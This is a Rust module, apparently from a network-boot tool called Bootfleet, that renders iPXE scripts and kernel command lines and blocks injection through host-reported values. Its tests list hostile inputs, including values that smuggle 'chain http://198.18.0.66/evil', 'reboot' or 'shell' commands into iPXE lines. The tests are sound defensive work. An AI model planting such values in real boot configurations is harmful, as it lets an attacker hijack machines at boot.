//! Bootfleet's one template syntax, shared by profile templates (a kernel
//! command line, an iPXE script) and the image streamer's script templates,
//! and how a value is made safe in each place it lands. Pure.
//!
//! # Syntax
//!
//! `{{name}}` is a Bootfleet variable (spaces inside the braces are
//! ignored). Everything else is the target's own text and passes through
//! as written, `${…}` included: that is iPXE's settings syntax
//! (`${net0/mac}`, `${serial}`), expanded by iPXE on the host. Profiles may
//! use `host.KEY` (the host profile's values), `location.KEY` (the
//! location's labels) and `facts.FIELD` (`facts.serial`,
//! `facts.label.rack`, …); the streamer's templates may use those and their
//! own (`{{fetch_kernel}}`, …). Profile variables used to be written
//! `${host.KEY}`, which collides with iPXE's syntax: that spelling is
//! refused when a profile is saved, with the new one named.
//!
//! # Where values land
//!
//! A value is text Bootfleet does not control — a serial, hostname or label
//! the host reported, or a value or label the operator typed — and it must
//! never become anything but part of one word of the target. Each target
//! has its own grammar, so each has its own rules; a value that cannot be
//! made safe is left out (rendered as nothing) and reported in
//! [`Rendered::rejected`], so the caller can log the host and the variable.
//!
//! **iPXE script lines** ([`render_ipxe`]), from iPXE's `src/image/script.c`
//! and `src/core/exec.c`: a script is split into lines at `\n`; a trailing
//! `\r` is dropped and a line ending in `\` continues on the next one; a
//! line whose first word starts with `:` is a label. A line is split into
//! words at ASCII whitespace — iPXE has no quoting and no escape character —
//! and a word starting with `#` begins a comment; the words `||`, `&&` and
//! `;` separate commands. Options are parsed up to the first word that does
//! not start with `-`. Then `${…}` is expanded, repeatedly, until none is
//! left (before the split in older versions, word by word in newer ones), so
//! not even an expanded setting can carry a literal `${`. Hence a value in an
//! iPXE line is refused when it holds whitespace or a control character;
//! `$`, `{` or `}` (it could form, or close, an expansion with the text
//! around it); `#`, `-` or `:` at the start of a word; only `|`, `&` and
//! `;` (it could form a separator with its neighbours); or `\` at the end
//! of a line. Anything else, non-ASCII included, is copied as it is.
//!
//! **Kernel command lines** ([`render_kernel_cmdline`]), from Linux's
//! `lib/cmdline.c` (`next_arg`) and `lib/ctype.c`: arguments are split at
//! whitespace, which for the kernel includes byte 0xA0 (part of many UTF-8
//! characters), except inside double quotes; a `"` toggles quoting and
//! cannot be escaped; the quotes around an argument, or around the value
//! after its `=`, are removed; the argument `--` ends the kernel's
//! parameters. The template is split into arguments first; a value with
//! whitespace makes Bootfleet wrap its whole argument in `"…"`, so it stays
//! one argument. A value is refused when it holds a control character or a
//! `"`, when its argument needs quotes but the template quotes that argument
//! itself, or when it would make the argument `--`. Each loader carries the
//! command line its own way:
//! - iPXE (`kernel URL ARGS…`) splits it into words and joins them again
//!   with one space: the iPXE rules above apply to each space-separated word
//!   of a value, which may not start or end with a space either (the text
//!   beside it would become a word of its own); runs of spaces inside a
//!   value reach the kernel as one space. Options have ended at the URL, so
//!   a leading `-` is harmless there. An argument of the template that
//!   starts with `#`, or is only `|`, `&` and `;`, once its values are
//!   empty is refused when the profile is saved;
//! - pxelinux (`APPEND ARGS…`) takes the rest of the line as it is;
//! - GRUB (`linux PATH ARGS…`) parses shell-like words and builds the
//!   command line from them differently across releases (joined as they
//!   are; or wrapped in `"…"` when a word holds a space, with or without a
//!   `\` before each `\`, `'` and `"`), so the only value that reaches the
//!   kernel unchanged in all of them has no whitespace, `'` or `\`; such a
//!   value is written inside GRUB's single quotes, where GRUB reads every
//!   character literally.

pub mod grammar;
mod safety;

use thiserror::Error;

use crate::facts::Field;
pub use safety::Unsafe;
use safety::{Place, grub_plain, has_kernel_space, ipxe_value, kernel_value};

/// A part of a template.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Piece<'a> {
    /// Text of the target, passed through.
    Text(&'a str),
    /// A variable, by name (trimmed).
    Var(&'a str),
    /// A `{{` with no `}}` after it, and the rest of the template; a
    /// template with one is refused, and rendered as written.
    Unclosed(&'a str),
}

/// Splits a template into text and variables.
pub fn pieces(text: &str) -> Vec<Piece<'_>> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        if start > 0 {
            out.push(Piece::Text(&rest[..start]));
        }
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else {
            out.push(Piece::Unclosed(&rest[start..]));
            return out;
        };
        out.push(Piece::Var(after[..end].trim()));
        rest = &after[end + 2..];
    }
    if !rest.is_empty() {
        out.push(Piece::Text(rest));
    }
    out
}

/// The variables a profile template may use, for messages.
pub const PROFILE_VARIABLES: &str = "host.KEY, location.KEY or facts.FIELD";

/// Whether `name` is a profile variable: `host.KEY`, `location.KEY` or
/// `facts.FIELD` with a field the rules know.
pub fn is_profile_variable(name: &str) -> bool {
    if let Some(key) = name.strip_prefix("host.").or_else(|| name.strip_prefix("location.")) {
        return !key.is_empty();
    }
    name.strip_prefix("facts.").and_then(Field::parse).is_some()
}

/// Why a template is refused.
#[derive(Debug, Error, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum TemplateError {
    /// `{{` without `}}`.
    #[error("unclosed {{{{ in {near:?}")]
    Unclosed {
        /// The template from the `{{` on (shortened).
        near: String,
    },
    /// A name this template cannot use.
    #[error("unknown variable {{{{{name}}}}} (use {expected})")]
    Unknown {
        /// The name as written.
        name: String,
        /// What may be used instead.
        expected: String,
    },
    /// A profile variable in the old `${…}` spelling.
    #[error("${{{name}}} is no longer a Bootfleet variable (${{…}} is left to iPXE): write {{{{{name}}}}}")]
    OldSpelling {
        /// The variable's name.
        name: String,
    },
    /// A kernel argument that ends the loader's line when its values are
    /// empty.
    #[error(
        "argument {argument:?} could end the boot loader's line: without its values it starts with #, \
         a comment to iPXE and GRUB, or is made of |, & and ;, iPXE's command separators"
    )]
    EndsLine {
        /// The argument as written.
        argument: String,
    },
    /// A kernel argument that quotes a variable itself.
    #[error("argument {argument:?} quotes a variable itself; Bootfleet adds the quotes a value needs")]
    QuotedVariable {
        /// The argument as written.
        argument: String,
    },
}

/// Checks a template: every `{{` closed, every variable one that `known`
/// accepts (`expected` says which, for the message), no profile variable
/// in the old `${…}` spelling. Returns the variables used.
pub fn check<'t>(
    text: &'t str,
    known: &dyn Fn(&str) -> bool,
    expected: &str,
) -> Result<Vec<&'t str>, TemplateError> {
    if let Some(name) = old_spellings(text).into_iter().next() {
        return Err(TemplateError::OldSpelling { name });
    }
    let mut used = Vec::new();
    for piece in pieces(text) {
        match piece {
            Piece::Text(_) => {}
            Piece::Unclosed(rest) => {
                return Err(TemplateError::Unclosed { near: rest.chars().take(40).collect() });
            }
            Piece::Var(name) if known(name) => used.push(name),
            Piece::Var(name) => {
                let mut expected = expected.to_owned();
                if name.starts_with("facts.") {
                    expected.push_str(&format!("; fields: {}", Field::NAMES));
                }
                return Err(TemplateError::Unknown { name: name.to_owned(), expected });
            }
        }
    }
    Ok(used)
}

/// Checks a profile's kernel command-line template: [`check`] with the
/// profile variables; no argument that quotes a variable itself (the
/// quotes a value needs are Bootfleet's to add), and none that would end
/// iPXE's `kernel` line or GRUB's `linux` line were its values empty.
pub fn check_kernel_cmdline(text: &str) -> Result<(), TemplateError> {
    check(text, &is_profile_variable, PROFILE_VARIABLES)?;
    for argument in arguments(&pieces(text)) {
        let has_var = argument.iter().any(|p| matches!(p, Piece::Var(_)));
        let text: String =
            argument.iter().filter_map(|p| if let Piece::Text(t) = p { Some(*t) } else { None }).collect();
        let written = || {
            argument
                .iter()
                .map(|p| match p {
                    Piece::Var(name) => format!("{{{{{name}}}}}"),
                    Piece::Text(t) | Piece::Unclosed(t) => (*t).to_owned(),
                })
                .collect()
        };
        if ends_ipxe_line(&text) {
            return Err(TemplateError::EndsLine { argument: written() });
        }
        if has_var && text.contains('"') {
            return Err(TemplateError::QuotedVariable { argument: written() });
        }
    }
    Ok(())
}

/// Whether an iPXE word ends the command: a comment, or a separator.
fn ends_ipxe_line(word: &str) -> bool {
    word.starts_with('#') || (!word.is_empty() && word.chars().all(|c| matches!(c, '|' | '&' | ';')))
}

/// Profile variables written in the old `${host.KEY}` spelling.
pub fn old_spellings(text: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        let after = &rest[start + 2..];
        let Some(end) = after.find('}') else { break };
        let name = &after[..end];
        if ["host.", "location.", "facts."].iter().any(|p| name.starts_with(p)) {
            names.push(name.to_owned());
        }
        rest = &after[end + 1..];
    }
    names
}

/// A value left out of a rendering.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejected {
    /// The variable, e.g. `facts.serial`.
    pub variable: String,
    /// Why.
    pub reason: Unsafe,
}

/// A rendering, and what the caller should log.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Rendered {
    /// The text.
    pub text: String,
    /// Values left out.
    pub rejected: Vec<Rejected>,
    /// Profile variables in the old `${…}` spelling, passed through to
    /// the target as text (a profile saved before the spelling changed).
    pub old_spellings: Vec<String>,
}

impl Rendered {
    /// Takes over what `other` reports, and returns its text.
    pub fn absorb(&mut self, other: Self) -> String {
        self.rejected.extend(other.rejected);
        self.old_spellings.extend(other.old_spellings);
        other.text
    }
}

/// The value of a variable in an iPXE template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Value {
    /// Text Bootfleet does not control: checked as an iPXE word.
    Text(String),
    /// iPXE script text Bootfleet generated (with any values in it already
    /// checked): inserted as it is.
    Script(String),
}

/// Renders an iPXE template: [`Value::Text`] values are checked as iPXE
/// words, [`Value::Script`] ones inserted as they are; names `lookup` does
/// not know render as nothing.
pub fn render_ipxe(template: &str, lookup: &dyn Fn(&str) -> Option<Value>) -> Rendered {
    let mut out = Rendered { old_spellings: old_spellings(template), ..Rendered::default() };
    let pieces = pieces(template);
    for (i, piece) in pieces.iter().enumerate() {
        match *piece {
            Piece::Text(text) | Piece::Unclosed(text) => out.text.push_str(text),
            Piece::Var(name) => match lookup(name) {
                None => {}
                Some(Value::Script(script)) => out.text.push_str(&script),
                Some(Value::Text(value)) => {
                    let starts_word = out.text.chars().next_back().is_none_or(|c| c.is_ascii_whitespace());
                    // What follows is known only for text; a variable
                    // might end the line.
                    let ends_line = match pieces.get(i + 1) {
                        Some(Piece::Text(next) | Piece::Unclosed(next)) => next.starts_with(['\n', '\r']),
                        Some(Piece::Var(_)) | None => true,
                    };
                    match ipxe_value(&value, Place { starts_word, ends_line }, false) {
                        Ok(()) => out.text.push_str(&value),
                        Err(reason) => out.rejected.push(Rejected { variable: name.to_owned(), reason }),
                    }
                }
            },
        }
    }
    out
}

/// The boot loader that carries a kernel command line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Loader {
    /// iPXE's `kernel` command.
    Ipxe,
    /// A pxelinux `APPEND` line.
    Pxelinux,
    /// GRUB's `linux` command.
    Grub,
}

/// Splits template pieces into kernel arguments at ASCII whitespace in the
/// text (a variable is always inside one argument).
fn arguments<'a>(pieces: &[Piece<'a>]) -> Vec<Vec<Piece<'a>>> {
    let mut arguments = Vec::new();
    let mut current = Vec::new();
    for piece in pieces {
        match *piece {
            Piece::Var(_) => current.push(*piece),
            Piece::Text(text) | Piece::Unclosed(text) => {
                for (i, segment) in text.split(|c: char| c.is_ascii_whitespace()).enumerate() {
                    if i > 0 && !current.is_empty() {
                        arguments.push(std::mem::take(&mut current));
                    }
                    if !segment.is_empty() {
                        current.push(Piece::Text(segment));
                    }
                }
            }
        }
    }
    if !current.is_empty() {
        arguments.push(current);
    }
    arguments
}

/// One part of an argument being rendered.
enum Part<'a> {
    Text(&'a str),
    Value { name: &'a str, value: String },
}

/// Renders one argument; `None` when it comes out empty.
fn render_argument(
    argument: &[Piece<'_>],
    loader: Loader,
    lookup: &dyn Fn(&str) -> Option<String>,
    rejected: &mut Vec<Rejected>,
) -> Option<String> {
    let mut parts: Vec<Part<'_>> = Vec::with_capacity(argument.len());
    for piece in argument {
        match *piece {
            Piece::Text(text) | Piece::Unclosed(text) => parts.push(Part::Text(text)),
            Piece::Var(name) => {
                let mut value = lookup(name).unwrap_or_default();
                if let Err(reason) = kernel_value(&value, loader) {
                    rejected.push(Rejected { variable: name.to_owned(), reason });
                    value.clear();
                }
                parts.push(Part::Value { name, value });
            }
        }
    }
    let template_quotes = parts.iter().any(|p| matches!(p, Part::Text(t) if t.contains('"')));
    // Leaving a value out can remove the quotes, which moves the others to
    // the start of an iPXE word: check again until nothing changes.
    loop {
        let mut reject = None;
        let quoted = parts.iter().any(|p| matches!(p, Part::Value { value, .. } if has_kernel_space(value)));
        if quoted && template_quotes {
            reject = parts
                .iter()
                .position(|p| matches!(p, Part::Value { value, .. } if has_kernel_space(value)))
                .map(|i| (i, Unsafe::KernelNestedQuotes));
        } else if loader == Loader::Ipxe {
            let mut before = String::new();
            let last = parts.iter().rposition(|p| match p {
                Part::Text(text) => !text.is_empty(),
                Part::Value { value, .. } => !value.is_empty(),
            });
            for (i, part) in parts.iter().enumerate() {
                match part {
                    Part::Text(text) => before.push_str(text),
                    Part::Value { value, .. } => {
                        let place = Place {
                            starts_word: !quoted && before.is_empty(),
                            ends_line: !quoted && last == Some(i),
                        };
                        if let Err(reason) = ipxe_value(value, place, true) {
                            reject = Some((i, reason));
                            break;
                        }
                        before.push_str(value);
                    }
                }
            }
        }
        let content: String = parts
            .iter()
            .map(|p| match p {
                Part::Text(text) => *text,
                Part::Value { value, .. } => value.as_str(),
            })
            .collect();
        // What the template itself puts at the start of an iPXE word (with
        // its values empty, say) is checked when the profile is saved;
        // this guards profiles saved before.
        let ends_line = || {
            let emitted = if quoted { format!("\"{content}\"") } else { content.clone() };
            let word = emitted.split(' ').find(|w| ends_ipxe_line(w))?.to_owned();
            Some(if word.starts_with('#') { Unsafe::IpxeComment } else { Unsafe::IpxeSeparator })
        };
        if let (None, Loader::Ipxe, Some(reason)) = (reject, loader, ends_line()) {
            match parts.iter().position(|p| matches!(p, Part::Value { value, .. } if !value.is_empty())) {
                Some(i) => reject = Some((i, reason)),
                None => {
                    if let Some(Part::Value { name, .. }) =
                        parts.iter().find(|p| matches!(p, Part::Value { .. }))
                    {
                        rejected.push(Rejected { variable: (*name).to_owned(), reason });
                    }
                    return None;
                }
            }
        }
        if reject.is_none() && content == "--" {
            reject = parts
                .iter()
                .position(|p| matches!(p, Part::Value { value, .. } if !value.is_empty()))
                .map(|i| (i, Unsafe::KernelEndOfParameters));
        }
        if let Some((i, reason)) = reject {
            if let Part::Value { name, value } = &mut parts[i] {
                rejected.push(Rejected { variable: (*name).to_owned(), reason });
                value.clear();
            }
            continue;
        }
        if content.is_empty() {
            return None;
        }
        return Some(match loader {
            Loader::Ipxe | Loader::Pxelinux if quoted => format!("\"{content}\""),
            Loader::Ipxe | Loader::Pxelinux => content,
            Loader::Grub => parts
                .iter()
                .map(|p| match p {
                    Part::Text(text) => (*text).to_owned(),
                    Part::Value { value, .. } if value.chars().all(grub_plain) => value.clone(),
                    Part::Value { value, .. } => format!("'{value}'"),
                })
                .collect(),
        });
    }
}

/// Renders a kernel command-line template for `loader`: arguments are
/// separated by one space, each value stays inside its argument (module
/// docs); names `lookup` does not know render as nothing.
pub fn render_kernel_cmdline(
    template: &str,
    loader: Loader,
    lookup: &dyn Fn(&str) -> Option<String>,
) -> Rendered {
    let mut out = Rendered { old_spellings: old_spellings(template), ..Rendered::default() };
    let rendered: Vec<String> = arguments(&pieces(template))
        .iter()
        .filter_map(|argument| render_argument(argument, loader, lookup, &mut out.rejected))
        .collect();
    out.text = rendered.join(" ");
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::grammar::{grub_cmdline, grub_words, ipxe_script, kernel_args};
    use super::*;

    /// Values a host could report, each an attack on some target.
    const HOSTILE: &[&str] = &[
        "#comment",
        "a #b",
        "x || reboot",
        "x && chain http://198.18.0.66/evil",
        "x ; shell",
        "||",
        "line\nchain http://198.18.0.66/evil",
        "cr\rx",
        "quote\"d",
        "back\\slash",
        "trail\\",
        "${net0/ip}",
        "${}",
        "a  b",
        "tab\there",
        "à la carte",
        "Müller",
        "-n",
        ":label",
        "--",
        "'single'",
        "To Be Filled By O.E.M.",
        "",
    ];

    /// What a rendering made of each variable (used once each): the value,
    /// or nothing where it was left out.
    fn used(rendered: &Rendered, value: &str) -> impl Fn(&str) -> String {
        let rejected: Vec<String> = rendered.rejected.iter().map(|r| r.variable.clone()).collect();
        let value = value.to_owned();
        move |name| if rejected.iter().any(|r| r == name) { String::new() } else { value.clone() }
    }

    fn read_ipxe(script: &str) -> Vec<(Option<String>, Vec<Vec<String>>)> {
        ipxe_script(script)
            .into_iter()
            .map(|l| (l.label, l.commands.into_iter().map(|c| c.words).collect()))
            .collect()
    }

    /// Every variable used once, in every kind of place: a comment, a word
    /// of its own, part of a word, the end of a line.
    const SCRIPT: &str = "#!ipxe\n# {{facts.serial}}\n:start\necho serial={{facts.model}} {{facts.hostname}} \
                          || goto failed\nchain http://198.18.0.1/b?s={{facts.vendor}}&r={{facts.label.rack}}\n\
                          set x {{facts.domain}}\n{{facts.label.cmd}}\n:failed\nexit 1\n";
    const SCRIPT_VARIABLES: &[&str] = &[
        "facts.serial",
        "facts.model",
        "facts.hostname",
        "facts.vendor",
        "facts.label.rack",
        "facts.domain",
        "facts.label.cmd",
    ];

    /// A value in an iPXE script is copied whole or left out; either way
    /// iPXE reads the lines, commands and words the template has. True when
    /// it was copied everywhere.
    fn assert_ipxe_safe(value: &str) -> bool {
        let rendered = render_ipxe(SCRIPT, &|_| Some(Value::Text(value.to_owned())));
        let used = used(&rendered, value);
        // The reference: each variable replaced by what was used, as text.
        let mut intended = SCRIPT.to_owned();
        for name in SCRIPT_VARIABLES {
            intended = intended.replace(&format!("{{{{{name}}}}}"), &format!("\u{1}{name}\u{1}"));
        }
        let reference = read_ipxe(&intended);
        let intended: Vec<_> = reference
            .into_iter()
            .map(|(label, commands)| {
                let commands = commands
                    .into_iter()
                    .map(|words| {
                        words
                            .into_iter()
                            .map(|w| {
                                let mut w = w;
                                for name in SCRIPT_VARIABLES {
                                    w = w.replace(&format!("\u{1}{name}\u{1}"), &used(name));
                                }
                                w
                            })
                            .filter(|w| !w.is_empty())
                            .collect::<Vec<_>>()
                    })
                    .filter(|words| !words.is_empty())
                    .collect::<Vec<_>>();
                (label, commands)
            })
            .filter(|(label, commands)| label.is_some() || !commands.is_empty())
            .collect();
        assert_eq!(read_ipxe(&rendered.text), intended, "value {value:?}:\n{}", rendered.text);
        if rendered.rejected.len() < SCRIPT_VARIABLES.len() {
            assert!(!value.contains("${"), "{value:?} would be expanded by iPXE");
        }
        rendered.rejected.is_empty()
    }

    #[test]
    fn hostile_values_in_an_ipxe_script() {
        let accepted: Vec<&str> = HOSTILE.iter().copied().filter(|v| assert_ipxe_safe(v)).collect();
        assert_eq!(accepted, ["quote\"d", "back\\slash", "Müller", "'single'", ""]);
        // Each variable is reported where the value was left out.
        let rendered = render_ipxe(SCRIPT, &|_| Some(Value::Text("x || reboot".into())));
        assert!(rendered.rejected.iter().all(|r| r.reason == Unsafe::IpxeWhitespace));
        let names: Vec<&str> = rendered.rejected.iter().map(|r| r.variable.as_str()).collect();
        assert_eq!(names, SCRIPT_VARIABLES);
        // Where a value sits decides: `#` starts a comment only at the start of a word.
        let rendered = render_ipxe(SCRIPT, &|_| Some(Value::Text("#x".into())));
        let names: Vec<&str> = rendered.rejected.iter().map(|r| r.variable.as_str()).collect();
        assert_eq!(names, ["facts.serial", "facts.hostname", "facts.domain", "facts.label.cmd"]);
        // iPXE's own settings and Bootfleet's script text pass through.
        let r = render_ipxe("#!ipxe\n{{fetch}} ${net0/mac} {{a}}\n", &|name| match name {
            "fetch" => Some(Value::Script("kernel http://x/k || goto failed".into())),
            "a" => Some(Value::Text("ok".into())),
            _ => None,
        });
        assert_eq!(r.text, "#!ipxe\nkernel http://x/k || goto failed ${net0/mac} ok\n");
    }

    /// Values at the start and the end of arguments, alone, between text,
    /// and before text that iPXE would read as a comment on its own.
    const CMDLINE: &str = "console=ttyS0 serial={{facts.serial}}  {{facts.hostname}} rack={{ location.rack }}x \
                           m={{facts.model}}#1 quiet";

    /// The arguments the template means, with what was used in place.
    fn intended_args(used: &dyn Fn(&str) -> String) -> Vec<String> {
        [
            "console=ttyS0".to_owned(),
            format!("serial={}", used("facts.serial")),
            used("facts.hostname"),
            format!("rack={}x", used("location.rack")),
            format!("m={}#1", used("facts.model")),
            "quiet".into(),
        ]
        .into_iter()
        .filter(|a| !a.is_empty())
        .collect()
    }

    /// The kernel's arguments, written back as `param[=value]`.
    fn kernel_reads(cmdline: &str) -> Vec<String> {
        kernel_args(cmdline)
            .into_iter()
            .map(|(p, v)| {
                let mut arg = p;
                if let Some(v) = v {
                    arg.push(b'=');
                    arg.extend(v);
                }
                String::from_utf8(arg).expect("split inside a character")
            })
            .collect()
    }

    /// The kernel command line each loader hands the kernel, read from the
    /// loader's own line as the loader parses it.
    fn carried(loader: Loader, cmdline: &str) -> String {
        match loader {
            Loader::Ipxe => {
                let lines =
                    ipxe_script(&format!("#!ipxe\nkernel http://198.18.0.1/k {cmdline} || goto failed\n"));
                assert_eq!(lines.len(), 1, "{cmdline}");
                let commands = &lines[0].commands;
                assert_eq!(commands.len(), 2, "{cmdline}");
                assert_eq!(
                    (commands[0].then.as_deref(), commands[1].words.join(" ")),
                    (Some("||"), "goto failed".into())
                );
                // iPXE's `kernel` joins its arguments with one space.
                commands[0].words[2..].join(" ")
            }
            Loader::Pxelinux => {
                assert!(!cmdline.contains(['\n', '\r']), "{cmdline}");
                cmdline.to_owned()
            }
            Loader::Grub => {
                let words = grub_words(&format!("linux (http,198.18.0.1)/k {cmdline}")).unwrap();
                grub_cmdline(&words[2..])
            }
        }
    }

    /// A value in a kernel command line stays inside its argument, or is
    /// left out; the other arguments are untouched.
    fn assert_kernel_safe(loader: Loader, value: &str) -> bool {
        let lookup = |_: &str| Some(value.to_owned());
        let rendered = render_kernel_cmdline(CMDLINE, loader, &lookup);
        let used = used(&rendered, value);
        let used = |name: &str| {
            let mut used = used(name);
            if loader == Loader::Ipxe {
                // iPXE rejoins words with one space.
                while used.contains("  ") {
                    used = used.replace("  ", " ");
                }
            }
            used
        };
        let got = kernel_reads(&carried(loader, &rendered.text));
        assert_eq!(got, intended_args(&used), "{loader:?}, value {value:?}: {}", rendered.text);
        rendered.rejected.is_empty()
    }

    #[test]
    fn hostile_values_in_a_kernel_command_line() {
        for (loader, expected) in [
            (
                Loader::Pxelinux,
                &[
                    "#comment",
                    "a #b",
                    "x || reboot",
                    "x && chain http://198.18.0.66/evil",
                    "x ; shell",
                    "||",
                    "back\\slash",
                    "trail\\",
                    "${net0/ip}",
                    "${}",
                    "a  b",
                    "à la carte",
                    "Müller",
                    "-n",
                    ":label",
                    "'single'",
                    "To Be Filled By O.E.M.",
                    "",
                    "x}",
                ][..],
            ),
            (
                Loader::Ipxe,
                &[
                    "back\\slash",
                    "a  b",
                    "à la carte",
                    "Müller",
                    "-n",
                    ":label",
                    "'single'",
                    "To Be Filled By O.E.M.",
                    "",
                ][..],
            ),
            (Loader::Grub, &["#comment", "||", "${net0/ip}", "${}", "Müller", "-n", ":label", "", "x}"][..]),
        ] {
            let accepted: Vec<&str> =
                HOSTILE.iter().chain(&["x}"]).copied().filter(|v| assert_kernel_safe(loader, v)).collect();
            assert_eq!(accepted, expected, "{loader:?}");
        }
        // A profile saved before the check, whose text starts a comment when
        // its value is empty: the argument is left out.
        let r = render_kernel_cmdline("a {{x}}#1 b", Loader::Ipxe, &|_| Some(String::new()));
        assert_eq!((r.text.as_str(), r.rejected[0].reason), ("a b", Unsafe::IpxeComment));
        let r = render_kernel_cmdline("a {{x}}#1 b", Loader::Pxelinux, &|_| Some(String::new()));
        assert_eq!(r.text, "a #1 b");
        let e = check_kernel_cmdline("a {{host.x}}#1").unwrap_err();
        assert_eq!(e, TemplateError::EndsLine { argument: "{{host.x}}#1".into() });
        assert!(check_kernel_cmdline("a {{host.x}}|{{host.y}}|").is_err());
        assert!(check_kernel_cmdline("a ||").is_err());
        check_kernel_cmdline("a x#1 x{{host.x}}|| ip=${net0/ip}").unwrap();
        // The argument `--` would hand the rest to init.
        let r = render_kernel_cmdline("a {{x}} b", Loader::Pxelinux, &|_| Some("--".into()));
        assert_eq!((r.text.as_str(), r.rejected[0].reason), ("a b", Unsafe::KernelEndOfParameters));
        // The template's own quotes leave no room for Bootfleet's.
        let r = render_kernel_cmdline("a=\"{{x}}\" b=\"{{x}}\"", Loader::Ipxe, &|_| Some("c d".into()));
        assert_eq!((r.text.as_str(), r.rejected[0].reason), ("a=\"\" b=\"\"", Unsafe::KernelNestedQuotes));
        // iPXE settings in the template pass through; arguments are one space apart.
        let r = render_kernel_cmdline(" ip=${net0/ip}\n  x={{x}} ", Loader::Ipxe, &|_| Some("y z".into()));
        assert_eq!(r.text, "ip=${net0/ip} \"x=y z\"");
        let r = render_kernel_cmdline("x={{x}}", Loader::Grub, &|_| Some("$y|#".into()));
        assert_eq!(r.text, "x='$y|#'");
    }

    #[test]
    fn old_spellings_are_reported_and_refused() {
        let r = render_kernel_cmdline("m=${host.marker} ip=${net0/ip}", Loader::Ipxe, &|_| None);
        assert_eq!(
            (r.text.as_str(), r.old_spellings.as_slice()),
            ("m=${host.marker} ip=${net0/ip}", &["host.marker".to_owned()][..])
        );
        let e = check("m=${facts.serial}", &is_profile_variable, PROFILE_VARIABLES).unwrap_err();
        assert_eq!(e, TemplateError::OldSpelling { name: "facts.serial".into() });
        assert!(check("ip=${net0/ip} ${serial}", &is_profile_variable, PROFILE_VARIABLES).is_ok());
    }

    fn any_value() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![
                Just("#"),
                Just("|"),
                Just("&"),
                Just(";"),
                Just(" "),
                Just("  "),
                Just("\n"),
                Just("\r"),
                Just("\t"),
                Just("\""),
                Just("'"),
                Just("\\"),
                Just("$"),
                Just("{"),
                Just("}"),
                Just("-"),
                Just(":"),
                Just("="),
                Just("à"),
                Just("\u{a0}"),
                Just("x"),
                Just("Z9"),
                Just("--"),
            ],
            0..8,
        )
        .prop_map(|parts| parts.concat())
    }

    proptest! {
        #[test]
        fn no_value_changes_an_ipxe_script(value in any_value()) {
            assert_ipxe_safe(&value);
        }

        #[test]
        fn no_value_leaves_its_kernel_argument(value in any_value()) {
            for loader in [Loader::Ipxe, Loader::Pxelinux, Loader::Grub] {
                assert_kernel_safe(loader, &value);
            }
        }
    }
}
